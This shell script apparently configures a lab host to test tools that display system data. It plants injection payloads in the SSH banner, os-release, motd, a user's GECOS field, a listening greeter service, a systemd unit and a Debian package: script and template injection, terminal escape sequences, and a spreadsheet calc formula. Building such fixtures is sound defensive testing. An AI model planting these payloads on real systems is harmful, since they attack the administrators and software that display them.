# Every text that this host shows is an attack on whoever prints it: markup, terminal escapes, template syntax,
# control characters, bytes of another encoding.
nasty() { printf '<script>alert(1)</script>{{7*7}}${7*7}\033[2J\033]0;owned\007\b\b=cmd|calc\047!A1 \261\261\276\251 %s' "$1"; }
nasty banner > /etc/ssh/banner
printf '\r\n' >> /etc/ssh/banner
cat >> /etc/ssh/sshd_config <<'CONF'
Banner /etc/ssh/banner
VersionAddendum <script>alert(1)</script>{{7*7}}
CONF
sed -i '/^PRETTY_NAME=/d' /usr/lib/os-release
{ printf 'PRETTY_NAME="'; nasty os | tr -d '\n"'; printf '"\n'; } >> /usr/lib/os-release
nasty motd > /etc/motd
useradd -m -s /bin/bash mallory && usermod -p '*' mallory
perl -pi -e 'if (/^mallory:/) { @f = split /:/; $f[4] = "<b>{{7*7}}</b>\e[31m\xb1\xb1"; $_ = join ":", @f }' /etc/passwd
# a service whose greeting and process name are hostile
nasty service > /usr/local/share/greeting
cat > /usr/local/sbin/greeter <<'SCRIPT'
#!/usr/bin/perl
use strict; use warnings; use IO::Socket::INET;
$0 = "<img src=x onerror=alert(1)>{{7*7}}\e[31m";
open my $file, '<:raw', '/usr/local/share/greeting' or die; local $/; my $greeting = <$file>;
my $server = IO::Socket::INET->new(LocalPort => 9000, Listen => 16, ReuseAddr => 1) or die;
while (my $client = $server->accept) { print $client $greeting, "\r\n"; close $client }
SCRIPT
chmod 755 /usr/local/sbin/greeter
printf '[Unit]\nDescription=<script>alert(2)</script>\n[Service]\nExecStart=/usr/local/sbin/greeter\n[Install]\nWantedBy=multi-user.target\n' \
    > /etc/systemd/system/greeter.service
systemctl -q enable greeter
# a package with a hostile description
mkdir -p /tmp/p/DEBIAN
{ printf 'Package: hostile-notes\nVersion: 1.0~lab\nArchitecture: all\nMaintainer: <script>alert(3)</script> <x@example.invalid>\nDescription: '
  nasty package; printf '\n'; } > /tmp/p/DEBIAN/control
dpkg-deb -b /tmp/p /tmp/p.deb > /dev/null && dpkg -i /tmp/p.deb > /dev/null
rm -rf /tmp/p /tmp/p.deb
